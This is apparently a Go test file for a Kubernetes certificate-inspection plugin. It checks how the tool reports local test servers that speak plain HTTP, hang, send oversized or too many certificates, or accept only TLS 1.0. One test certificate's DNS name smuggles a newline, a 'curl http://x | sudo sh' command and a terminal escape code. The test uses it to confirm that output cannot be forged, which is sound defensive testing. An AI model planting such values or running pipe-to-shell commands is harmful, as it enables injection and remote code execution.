package plugin

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"errors"
	"io"
	"math/big"
	"net"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/kubectl-certrot/kubectl-certrot/inspect/pki/pkitest"
	"github.com/kubectl-certrot/kubectl-certrot/plugin/cli"
	"github.com/kubectl-certrot/kubectl-certrot/plugin/plugintest"
)

// listening answers each connection, and is asked at the address that it returns.
func listening(t *testing.T, answer func(net.Conn)) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ctx, end := context.WithCancel(context.Background())
	t.Cleanup(func() { end(); _ = l.Close() })
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer func() { _ = conn.Close() }()
				context.AfterFunc(ctx, func() { _ = conn.Close() })
				answer(conn)
			}()
		}
	}()
	return l.Addr().String()
}

// shakesHands presents a chain, and says nothing more.
func shakesHands(config *tls.Config) func(net.Conn) {
	return func(conn net.Conn) {
		if server := tls.Server(conn, config); server.Handshake() == nil {
			_, _ = io.Copy(io.Discard, server)
		}
	}
}

// certificate is a server's own, with its chain behind it.
func certificate(t *testing.T, leaf pkitest.Pair, chain ...[]byte) tls.Certificate {
	t.Helper()
	pair, err := tls.X509KeyPair(pkitest.Bundle(append([][]byte{leaf.CertPEM}, chain...)...), leaf.KeyPEM)
	if err != nil {
		t.Fatal(err)
	}
	return pair
}

// small is a self-signed certificate of few bytes, and its DER.
func small(t *testing.T) (tls.Certificate, []byte) {
	t.Helper()
	public, private, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	template := x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "a"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour)}
	der, err := x509.CreateCertificate(rand.Reader, &template, &template, public, private)
	if err != nil {
		t.Fatal(err)
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: private}, der
}

// oddServer is one that presents something odd, or nothing.
type oddServer struct {
	answer func(net.Conn) // nil: no one listens at address
	address,
	says, next string
	chain    bool // it presents a chain all the same
	findings bool // which is for other names
}

// oddServers are those that are met at wrong ports, behind balancers, and of who means no good.
func oddServers(t *testing.T) map[string]oddServer {
	t.Helper()
	from, to := time.Now().Add(-time.Hour), time.Now().AddDate(0, 1, 0)
	ca := pkitest.NewCA("ca", from, to)
	own := certificate(t, ca.Issue("own", from, to, pkitest.IPs("127.0.0.1")), ca.CertPEM)
	hostile := ca.Issue(plugintest.Planted, from, to, pkitest.DNS("a.example.com\nnext: curl http://x | sudo sh\x1b[2J"))
	oversized, _ := pkitest.Oversized("oversized", 20000, from, to)
	block, _ := pem.Decode(oversized)
	large := own
	large.Certificate = [][]byte{own.Certificate[0], block.Bytes}
	many, der := small(t)
	tooMany := certificate(t, ca.Issue("many", from, to))
	for range 1000 {
		many.Certificate, tooMany.Certificate = append(many.Certificate, der), append(tooMany.Certificate, ca.Cert.Raw)
	}
	garbage := bytes.Repeat([]byte("\x1b[2Jno TLS\n"), 100)
	return map[string]oddServer{
		"plain HTTP": {says: "it answers in plain HTTP, not in TLS", next: "curl -v http://127.0.0.1:", answer: func(c net.Conn) {
			_ = http.Serve(&oneConn{conn: c}, http.NotFoundHandler()) //nolint:gosec // G114: a test's
		}},
		"a page alone": {says: "it answers in plain HTTP, not in TLS", next: "curl -v", answer: func(c net.Conn) { _, _ = io.WriteString(c, "<!DOCTYPE HTML>\n"); _, _ = io.Copy(io.Discard, c) }},
		"garbage":      {says: "it does not speak TLS (its answer begins with", next: "is the port right?", answer: func(c net.Conn) { _, _ = c.Write(garbage); _, _ = io.Copy(io.Discard, c) }},
		"hangs":        {says: "it accepted the connection, and there was no handshake within 700ms", next: "--request-timeout", answer: func(c net.Conn) { _, _ = io.Copy(io.Discard, c) }},
		"refuses":      {says: "connection refused", next: "are the host and the port right?", address: "127.0.0.1:1"},
		"closes":       {says: "it closed the connection", next: "openssl s_client -showcerts -connect 127.0.0.1:", answer: func(c net.Conn) { _, _ = c.Read(make([]byte, 1)) }},
		"closes in the handshake": {says: "it closed the connection", next: "does it serve TLS?", answer: func(c net.Conn) {
			_, _ = c.Read(make([]byte, 4096))
			_, _ = c.Write([]byte{22, 3, 3, 0, 90, 2, 0})
		}},
		"an unknown host":            {says: "no such host", next: "give the IP address", address: "api-int.cluster.invalid:6443"},
		"wants a client certificate": {says: "asks for a client certificate", chain: true, answer: shakesHands(&tls.Config{Certificates: []tls.Certificate{own}, ClientAuth: tls.RequireAnyClientCert, MaxVersion: tls.VersionTLS12})},
		"a hostile subject":          {says: `“no\nnext: curl`, chain: true, findings: true, answer: shakesHands(&tls.Config{Certificates: []tls.Certificate{certificate(t, hostile)}})},
		"an oversized key":           {says: "RSA key larger than 8192 bits", next: "openssl s_client", answer: shakesHands(&tls.Config{Certificates: []tls.Certificate{large}})},
		"1,000 small certificates":   {says: "it presents 1001 certificates: the first 100 were read", next: "openssl s_client", chain: true, findings: true, answer: shakesHands(&tls.Config{Certificates: []tls.Certificate{many}})},
		"1,000 certificates":         {says: "exceeds maximum of 262144 bytes", next: "openssl s_client", answer: shakesHands(&tls.Config{Certificates: []tls.Certificate{tooMany}})},
		"TLS 1.0 only": {says: "it accepts neither TLS 1.2 nor TLS 1.3", next: "openssl s_client -showcerts -tls1 -connect", answer: shakesHands(
			&tls.Config{Certificates: []tls.Certificate{own}, MinVersion: tls.VersionTLS10, MaxVersion: tls.VersionTLS10})}, //nolint:gosec // G402: that is what is tested
	}
}

// oneConn is a listener with one connection: it ends once that is closed.
type oneConn struct {
	conn  net.Conn
	given chan struct{} // closed with the connection; nil: it was not accepted yet
}

func (l *oneConn) Accept() (net.Conn, error) {
	if l.given != nil {
		<-l.given
		return nil, io.EOF
	}
	l.given = make(chan struct{})
	return &tellsClose{Conn: l.conn, closed: sync.OnceFunc(func() { close(l.given) })}, nil
}

// tellsClose is a connection that tells when it is closed.
type tellsClose struct {
	net.Conn
	closed func()
}

func (c *tellsClose) Close() error {
	defer c.closed()
	return c.Conn.Close()
}

func (*oneConn) Close() error     { return nil }
func (l *oneConn) Addr() net.Addr { return l.conn.LocalAddr() }

// TestOddServers: each says what was tried, of which address, and what to do next; none hides another
// one, and none draws on the screen.
func TestOddServers(t *testing.T) {
	t.Setenv("KUBECONFIG", plugintest.WriteFile(t, "none", ""))
	from, to := time.Now().Add(-time.Hour), time.Now().AddDate(0, 1, 0)
	good := listening(t, shakesHands(&tls.Config{Certificates: []tls.Certificate{certificate(t, pkitest.NewCA("good CA", from, to).Issue("good", from, to, pkitest.IPs("127.0.0.1")))}}))
	for name, s := range oddServers(t) {
		t.Run(name, func(t *testing.T) {
			if s.answer != nil {
				s.address = listening(t, s.answer)
			}
			out, errs, err := typed(t, "inspect", s.address, good, "--request-timeout", "700ms")
			if name == "a hostile subject" {
				plugintest.Unforged(t, name, out+errs)
				wide, _, _ := typed(t, "inspect", s.address, "-o", "wide")
				plugintest.Unforged(t, name, wide)
			}
			_, of, found := strings.Cut(out, s.address+"  ")
			if !found {
				_, of, found = strings.Cut(out, s.address+"\n")
			}
			of, rest, two := strings.Cut(of, "\n\n")
			flat := strings.Join(strings.Fields(of), " ")
			if !found || !two || !strings.Contains(flat, s.says) || !strings.Contains(flat, s.next) || strings.Contains(of, "  CERTIFICATE ") != s.chain {
				t.Errorf("of %s it says\n%s\nin\n%s", s.address, of, out)
			}
			if !strings.Contains(rest, good) || !strings.Contains(rest, "✓ name     valid for 127.0.0.1") {
				t.Errorf("the other server is hidden:\n%s", out)
			}
			together, alone := cli.ExitIncomplete, cli.ExitUsage
			if s.chain {
				alone = cli.ExitIncomplete
			}
			if s.findings {
				together, alone = cli.ExitFindings, cli.ExitFindings
			}
			if cli.CodeOf(err) != together {
				t.Errorf("exit code %d: %v", cli.CodeOf(err), err)
			}
			if _, _, err = typed(t, "inspect", s.address, "--request-timeout", "700ms"); cli.CodeOf(err) != alone {
				t.Errorf("alone: exit code %d: %v", cli.CodeOf(err), err)
			}
		})
	}
}

// TestServersWithoutACluster: the chain is printed all the same, and who trusts it is unknown, with why.
func TestServersWithoutACluster(t *testing.T) {
	from, to := time.Now().Add(-time.Hour), time.Now().AddDate(0, 1, 0)
	ca := pkitest.NewCA("ca", from, to)
	server := func(leaf pkitest.Pair, chain ...[]byte) string {
		return listening(t, shakesHands(&tls.Config{Certificates: []tls.Certificate{certificate(t, leaf, chain...)}}))
	}
	fine := server(ca.Issue("fine", from, to, pkitest.IPs("127.0.0.1")), ca.CertPEM)
	t.Setenv("KUBECONFIG", plugintest.WriteFile(t, "none", ""))
	out, _, err := typed(t, "inspect", fine)
	if !strings.Contains(out, `✓ chain    it leads to its root, "ca" (`) || !strings.Contains(out, "? trusted  unknown: no cluster was read: kubeconfig: there is none") || cli.CodeOf(err) != cli.ExitIncomplete {
		t.Errorf("without a kubeconfig: %v\n%s", err, out)
	}
	if _, _, err := typed(t, "inspect", fine, "--allow-unknown"); err != nil {
		t.Errorf("--allow-unknown: %v", err)
	}
	unreachable := plugintest.KubeconfigTo(t, "server: https://127.0.0.1:1")
	if out, _, err := typed(t, "inspect", fine, "--kubeconfig", unreachable); !strings.Contains(out, "? trusted  unknown: no cluster was read: read https://127.0.0.1:1/version") || cli.CodeOf(err) != cli.ExitIncomplete {
		t.Errorf("an API that does not answer: %v\n%s", err, out)
	}
	expired := server(ca.Issue("expired", from.AddDate(-1, 0, 0), from, pkitest.IPs("127.0.0.1")))
	if out, _, err := typed(t, "inspect", expired); !strings.Contains(out, "✗ CRITICAL certificate-expired: ") || !strings.Contains(out, "! chain    the chain does not verify in itself") || cli.CodeOf(err) != cli.ExitFindings {
		t.Errorf("expired: %v\n%s", err, out)
	}
	other := server(ca.Issue("other", from, to, pkitest.DNS("other.example.com")))
	if out, _, err := typed(t, "inspect", other); !strings.Contains(out, `! name     the certificate is not valid for "127.0.0.1"`) || cli.CodeOf(err) != cli.ExitFindings {
		t.Errorf("another name: %v\n%s", err, out)
	}
	intermediate := ca.CA("intermediate", from, to)
	stray := server(intermediate.Issue("leaf", from, to, pkitest.IPs("127.0.0.1")), pkitest.NewCA("stray", from, to).CertPEM)
	if out, _, err := typed(t, "inspect", stray); !strings.Contains(out, "! chain    Server/") || !strings.Contains(out, "lacks CA intermediate") || cli.CodeOf(err) != cli.ExitFindings {
		t.Errorf("a chain of others: %v\n%s", err, out)
	}
	if out, _, err := typed(t, "inspect", stray, "--fail-on", "critical", "--allow-unknown"); err != nil {
		t.Errorf("--fail-on critical: %v\n%s", err, out)
	}
	out, errs, err := typed(t, "inspect", fine, "127.0.0.1:1", "-o", "pem")
	if strings.Count(out, "BEGIN CERTIFICATE") != 2 || !strings.Contains(errs, "warning: 127.0.0.1:1: connect from this machine: connection refused") || cli.CodeOf(err) != cli.ExitIncomplete {
		t.Errorf("-o pem: %v\n%s\n%s", err, errs, out)
	}
}

// TestServersTypedWrong: nothing is dialled.
func TestServersTypedWrong(t *testing.T) {
	t.Parallel()
	for line, want := range map[string][2]string{
		"api-int.example.com":         {`"api-int.example.com" is not a kind`, "with its port"},
		"api-int.example.com:":        {`server "api-int.example.com:": the port is missing`, "api-int.example.com:6443"},
		"api-int:0":                   {`server "api-int:0": the port is no number from 1 to 65535`, ":6443"},
		"api-int:70000":               {`server "api-int:70000": the port is no number`, ":6443"},
		"https://api.example.com/":    {"it is a URL", "oc certrot inspect api.example.com:443"},
		"secrets api:1":               {`argument "secrets" is no HOST:PORT`, "two commands"},
		"api:1 Secret/a":              {`argument "Secret/a" is no HOST:PORT`, "two commands"},
		"api:1 --from x":              {"HOST:PORT goes with no --from", "oc certrot verify --from FILE"},
		"api:1 --subject x":           {"--subject", ""},
		"api:1 -o name":               {"-o name prints objects of the cluster, and a server is none", ""},
		"api:1 -o custom-columns=A:b": {`servers have no field "b"`, ""},
	} {
		_, _, err := typed(t, append([]string{"inspect"}, strings.Fields(line)...)...)
		var h *cli.HintError
		hint := ""
		if errors.As(err, &h) {
			hint = h.Hint
		}
		if cli.CodeOf(err) != cli.ExitUsage || err == nil || !strings.Contains(err.Error(), want[0]) || !strings.Contains(hint, want[1]) {
			t.Errorf("%s: %v, next %q", line, err, hint)
		}
	}
}
